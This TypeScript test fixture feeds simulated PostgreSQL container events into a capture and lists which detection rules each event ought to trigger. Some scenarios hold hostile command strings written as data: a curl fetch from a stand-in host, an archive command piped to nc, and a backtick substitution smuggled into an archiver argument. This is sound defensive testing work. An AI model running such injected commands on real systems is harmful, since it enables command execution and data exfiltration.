import { Capture, type Process } from "./capture.js";

/** Containers in which something happens; `host` is none. */
const CONTAINERS = {
  official17: ["postgres", "17.12-trixie"],
  official18: ["docker.io/library/postgres", "18.6-trixie"],
  operated: ["ghcr.io/cloudnative-pg/postgresql", "18.6-system-trixie"],
  shop: ["registry.example.org/shop", "1.4.0"],
  /** Not a database, though it is called like one. */
  exporter: ["registry.example.org/monitor/notpostgres", "1.0.0"],
} as const;
type Container = keyof typeof CONTAINERS | "host";

const BIN = "/usr/lib/postgresql/18/bin";
const server: Process = { comm: "postgres", exe: `${BIN}/postgres`, args: ["-D", "/x"] };
const runtime: Process = { comm: "containerd-shim", exe: "/usr/bin/containerd-shim-runc-v2", args: [] };
const entry: Process = {
  comm: "bash",
  exe: "bash",
  args: ["/usr/local/bin/docker-entrypoint.sh", "postgres"],
};
const manager: Process = { comm: "manager", exe: "/controller/manager", args: ["instance", "run"] };
const cat: Process = { comm: "cat", exe: "/bin/cat", args: ["x"] };
const program = (comm: string, ...args: string[]): Process => ({ comm, exe: `/usr/bin/${comm}`, args });
const shell = (...args: string[]): Process => program("sh", ...args);

type Act =
  | {
      readonly accept: string;
      readonly port?: number;
      readonly call?: "accept" | "accept4";
      readonly result?: number;
      readonly server?: string;
    }
  | { readonly connect: string; readonly port?: number; readonly result?: number }
  | { readonly local: string }
  | { readonly read: string; readonly call?: "open" | "openat" | "openat2"; readonly result?: number }
  | { readonly write: string }
  | { readonly run: Process; readonly call?: "execve" | "execveat"; readonly result?: number };

/** Something that happens, and the rules that must speak of it; all others must not. */
export interface Scenario {
  readonly what: string;
  readonly where: Container;
  /** Who does it, and the parent. @default the server, started by its entry point */
  readonly who?: Process;
  readonly parent?: Process;
  readonly act: Act;
  readonly rules: readonly string[];
}

const ACCESS = "Database Unauthorized Access";
const SHELL = "Database Shell Started";
const CHILD = "Database Child Process";
const FILES = "Database Files Read";
const WRITTEN = "Database Configuration Written";
const SECRET = "Database Password File Read";
const OUTBOUND = "Database Outbound Connection";
const DUMPED = "Database Dumped";

const data17 = "/var/lib/postgresql/data/pgdata";
const data18 = "/var/lib/postgresql/18/docker";
const archive = "pgbackrest --stanza=main archive-push pg_wal/000000010000000000000001";

/** A command of a probe that the rules are told of. */
export const KNOWN_SHELL = "/probes/ready.sh";

/** Under the networks of `rulesArgs`, with that command known. */
export const SCENARIOS: readonly Scenario[] = [
  // Database Unauthorized Access
  { what: "a client from a foreign network", where: "official18", act: { accept: "192.0.2.9" }, rules: [ACCESS] },
  { what: "a client from a foreign network, by accept4", where: "official17", act: { accept: "192.0.2.9", call: "accept4" }, rules: [ACCESS] },
  { what: "a client of CloudNativePG from a foreign network", where: "operated", act: { accept: "10.20.3.1" }, rules: [ACCESS] },
  { what: "a client just beyond a network", where: "official18", act: { accept: "10.20.3.0" }, rules: [ACCESS] },
  { what: "a client over IPv6", where: "official18", act: { accept: "2001:db8::9", server: "2001:db8::5" }, rules: [ACCESS] },
  { what: "an application", where: "official18", act: { accept: "10.20.2.255" }, rules: [] },
  { what: "a standby", where: "operated", act: { accept: "10.20.1.7" }, rules: [] },
  { what: "a probe on loopback", where: "official18", act: { accept: "127.0.0.1", server: "127.0.0.1" }, rules: [] },
  { what: "a probe on loopback of IPv6", where: "official18", act: { accept: "::1", server: "::1" }, rules: [] },
  { what: "a refused connection", where: "official18", act: { accept: "192.0.2.9", result: -11 }, rules: [] },
  { what: "a connection to another port", where: "official18", act: { accept: "192.0.2.9", port: 9187 }, rules: [] },
  { what: "a connection to what is no database", where: "shop", act: { accept: "192.0.2.9" }, rules: [] },
  { what: "a connection to what is called nearly like one", where: "exporter", act: { accept: "192.0.2.9" }, rules: [] },
  // Database Shell Started
  { what: "a shell from outside", where: "official18", who: runtime, parent: runtime, act: { run: program("bash") }, rules: [SHELL] },
  { what: "a shell of the server", where: "official17", parent: server, act: { run: shell("-c", "curl http://192.0.2.9/x") }, rules: [SHELL] },
  { what: "a shell by execveat", where: "operated", parent: runtime, act: { run: program("dash"), call: "execveat" }, rules: [SHELL] },
  { what: "the archiver with a second command", where: "official18", parent: server, act: { run: shell("-c", `${archive}; curl http://192.0.2.9/`) }, rules: [SHELL] },
  { what: "the archiver with a pipe", where: "official18", parent: server, act: { run: shell("-c", `${archive} | nc 192.0.2.9 1`) }, rules: [SHELL] },
  { what: "the archiver with a substitution", where: "official18", parent: server, act: { run: shell("-c", "pgbackrest --stanza=`id` archive-push x") }, rules: [SHELL] },
  { what: "an archiver's command that the server did not start", where: "official18", parent: runtime, act: { run: shell("-c", archive) }, rules: [SHELL] },
  { what: "another program called like the archiver", where: "official18", parent: server, act: { run: shell("-c", "pgbackrest-evil --stanza=main") }, rules: [SHELL] },
  { what: "the archiver", where: "official18", parent: server, act: { run: shell("-c", archive) }, rules: [] },
  { what: "the fetch of WAL", where: "official17", parent: server, act: { run: shell("-c", 'pgbackrest --stanza=main archive-get 000000010000000000000001 "pg_wal/RECOVERYXLOG"') }, rules: [] },
  { what: "CloudNativePG's archiver", where: "operated", parent: server, act: { run: shell("-c", "/controller/manager wal-archive --log-destination /controller/log/postgres.json pg_wal/0001") }, rules: [] },
  { what: "the entry point itself", where: "official18", parent: runtime, act: { run: entry }, rules: [] },
  { what: "an initialisation script of the entry point", where: "official18", parent: entry, act: { run: program("bash", "/docker-entrypoint-initdb.d/a.sh") }, rules: [] },
  { what: "a shell that could not be started", where: "official18", parent: server, act: { run: shell("-c", "id"), result: -2 }, rules: [] },
  { what: "a shell elsewhere", where: "shop", parent: runtime, act: { run: shell() }, rules: [] },
  { what: "a shell on the node", where: "host", parent: runtime, act: { run: shell() }, rules: [] },
  // Database Child Process
  { what: "a program that the server starts", where: "official18", parent: server, act: { run: program("curl", "http://192.0.2.9/") }, rules: [CHILD] },
  { what: "an interpreter that the server starts", where: "operated", parent: server, act: { run: program("python3", "-c", "x") }, rules: [CHILD] },
  { what: "pgBackRest that the server starts", where: "official18", parent: server, act: { run: program("pgbackrest", "archive-push") }, rules: [] },
  { what: "CloudNativePG's manager that the server starts", where: "operated", parent: server, act: { run: manager }, rules: [] },
  { what: "a program of a server outside containers", where: "host", parent: server, act: { run: program("curl") }, rules: [] },
  // Database Files Read
  { what: "a table's file of 18 read by a stranger", where: "official18", who: cat, act: { read: `${data18}/base/5/16384` }, rules: [FILES] },
  { what: "a table's file of 17 read by a stranger, by openat", where: "official17", who: cat, act: { read: `${data17}/base/5/16384`, call: "openat" }, rules: [FILES] },
  { what: "a table's file of CloudNativePG read, by open", where: "operated", who: cat, act: { read: `${data17}/base/5/16384`, call: "open" }, rules: [FILES] },
  { what: "a database's files read on the node", where: "host", who: cat, act: { read: "/var/lib/pgsql/18/data/base/1" }, rules: [FILES] },
  { what: "the server reads", where: "official18", act: { read: `${data18}/base/5/16384` }, rules: [] },
  { what: "pgBackRest reads", where: "official17", who: program("pgbackrest"), act: { read: `${data17}/base/5/16384` }, rules: [] },
  { what: "the manager reads", where: "operated", who: manager, act: { read: `${data17}/PG_VERSION` }, rules: [] },
  { what: "the entry point reads", where: "official17", who: entry, act: { read: `${data17}/PG_VERSION` }, rules: [] },
  { what: "a file that is not there", where: "official18", who: cat, act: { read: `${data18}/none`, result: -2 }, rules: [] },
  { what: "a file of a folder with a longer name", where: "official18", who: cat, act: { read: "/var/lib/postgresql2/x" }, rules: [] },
  { what: "another file", where: "official18", who: cat, act: { read: "/etc/hosts" }, rules: [] },
  // Database Configuration Written
  { what: "hba written by an editor", where: "official18", who: program("vi"), act: { write: `${data18}/pg_hba.conf` }, rules: [WRITTEN] },
  { what: "settings written by a stranger", where: "operated", who: cat, act: { write: `${data17}/postgresql.auto.conf` }, rules: [WRITTEN] },
  { what: "settings written by the server", where: "official18", act: { write: `${data18}/postgresql.auto.conf` }, rules: [] },
  { what: "settings written by the manager", where: "operated", who: manager, act: { write: `${data17}/custom.conf` }, rules: [] },
  { what: "another file written", where: "official18", who: cat, act: { write: "/tmp/notes" }, rules: [] },
  // Database Password File Read
  { what: "a mounted password read by a stranger", where: "official18", who: cat, act: { read: "/run/secrets/postgres/password" }, rules: [SECRET] },
  { what: "a password file at home read by a stranger", where: "operated", who: program("python3"), act: { read: "/home/x/.pgpass" }, rules: [SECRET] },
  { what: "a key read by a stranger", where: "official17", who: cat, act: { read: "/etc/tls/server.key" }, rules: [SECRET] },
  { what: "a password file read by psql", where: "official18", who: program("psql"), act: { read: "/home/x/.pgpass" }, rules: [] },
  { what: "a key read by the server", where: "official18", act: { read: "/run/secrets/tls/server.key" }, rules: [] },
  { what: "a password read by the entry point", where: "official18", who: entry, act: { read: "/run/secrets/postgres/password" }, rules: [] },
  { what: "a password file elsewhere", where: "shop", who: cat, act: { read: "/home/x/.pgpass" }, rules: [] },
  // Database Outbound Connection
  { what: "the server connects to a stranger", where: "official18", act: { connect: "198.51.100.7", port: 443 }, rules: [OUTBOUND] },
  { what: "a connection to a stranger that is on its way", where: "operated", who: program("curl"), act: { connect: "198.51.100.7", port: 443, result: -115 }, rules: [OUTBOUND] },
  { what: "a connection to the next address of the repository", where: "official17", who: program("pgbackrest"), act: { connect: "10.20.9.11", port: 443 }, rules: [OUTBOUND] },
  { what: "the repository", where: "official18", who: program("pgbackrest"), act: { connect: "10.20.9.10", port: 443 }, rules: [] },
  { what: "the primary", where: "operated", act: { connect: "10.20.1.5", port: 5432 }, rules: [] },
  { what: "loopback", where: "official18", who: program("psql"), act: { connect: "127.0.0.1", port: 5432 }, rules: [] },
  { what: "a refused connection to a stranger", where: "official18", act: { connect: "198.51.100.7", port: 443, result: -111 }, rules: [] },
  { what: "a stranger from elsewhere", where: "shop", act: { connect: "198.51.100.7", port: 443 }, rules: [] },
  // Database Dumped
  { what: "a dump in the container", where: "official18", parent: runtime, act: { run: program("pg_dump", "-d", "shop") }, rules: [DUMPED] },
  { what: "a dump of everything", where: "operated", parent: runtime, act: { run: program("pg_dumpall") }, rules: [DUMPED] },
  { what: "a dump that the server starts", where: "official18", parent: server, act: { run: program("pg_dump") }, rules: [CHILD, DUMPED] },
  { what: "a dump from elsewhere", where: "shop", parent: runtime, act: { run: program("pg_dump") }, rules: [] },
  // Other calls of those who are watched
  { what: "a shell reads", where: "official18", who: shell(), parent: runtime, act: { read: "/etc/hosts" }, rules: [] },
  { what: "a child of the server reads", where: "official18", who: program("curl"), parent: server, act: { read: "/etc/hosts" }, rules: [] },
  { what: "hba elsewhere read", where: "official18", who: cat, act: { read: "/etc/postgresql/pg_hba.conf" }, rules: [] },
  { what: "a password written", where: "official18", who: cat, act: { write: "/run/secrets/x" }, rules: [] },
  { what: "a file among the data written", where: "host", who: cat, act: { write: "/var/lib/pgsql/18/x" }, rules: [] },
  { what: "a dump reads", where: "official18", who: program("pg_dump"), parent: runtime, act: { read: "/etc/hosts" }, rules: [] },
  { what: "a connection to a socket of the container", where: "official18", who: program("psql"), act: { local: "/run/postgresql/.s.PGSQL.5432" }, rules: [] },
  { what: "settings of what is no database written", where: "shop", who: cat, act: { write: "/etc/postgresql.conf" }, rules: [] },
  { what: "settings written by the entry point", where: "official17", who: entry, act: { write: `${data17}/pg_hba.conf` }, rules: [] },
  { what: "the server started by itself", where: "official18", parent: server, act: { run: server }, rules: [] },
  { what: "loopback of IPv6", where: "official18", who: program("psql"), act: { connect: "::1", port: 5432 }, rules: [] },
  { what: "a dump of the entry point", where: "official18", parent: entry, act: { run: program("pg_dump") }, rules: [] },
  { what: "a probe by a shell", where: "official18", parent: runtime, act: { run: shell("-c", "/probes/ready.sh 5432") }, rules: [] },
  { what: "a probe by a shell that does more", where: "official18", parent: runtime, act: { run: shell("-c", "/probes/ready.sh && id") }, rules: [SHELL] },
]; // prettier-ignore

/** A capture of all of them. @returns it, with the number of the event that counts for each */
export function record(scenarios: readonly Scenario[]): {
  readonly bytes: Buffer;
  readonly numbers: readonly number[];
} {
  const capture = new Capture();
  const groups = new Map<Container, string>([["host", ""]]);
  Object.entries(CONTAINERS).forEach(([name, [repository, tag]], i) =>
    groups.set(name as Container, capture.container(String(i + 1).repeat(64), repository, tag)),
  );
  const numbers = scenarios.map(({ where, who = server, parent = entry, act }) => {
    const group = groups.get(where) ?? "";
    const [thread, above] = capture.process(who, parent, group);
    const local = "10.20.1.5";
    if ("accept" in act) {
      const { accept, port = 5432, call = "accept", result, server: address = local } = act;
      return capture.accept(thread, { address: accept, port: 40_000 }, { address, port }, call, result);
    }
    if ("connect" in act) {
      const { connect, port = 443, result = 0 } = act;
      const from = connect.includes(":") ? "2001:db8::5" : local;
      return capture.connect(thread, { address: from, port: 40_000 }, { address: connect, port }, result);
    }
    if ("local" in act) return capture.connectLocal(thread, act.local);
    if ("read" in act) return capture.open(thread, act.read, 1, act.call ?? "openat2", act.result);
    if ("write" in act) return capture.open(thread, act.write, 2, "openat");
    return capture.execute(thread, above, act.run, group, act.call ?? "execve", act.result);
  });
  return { bytes: capture.bytes(), numbers };
}
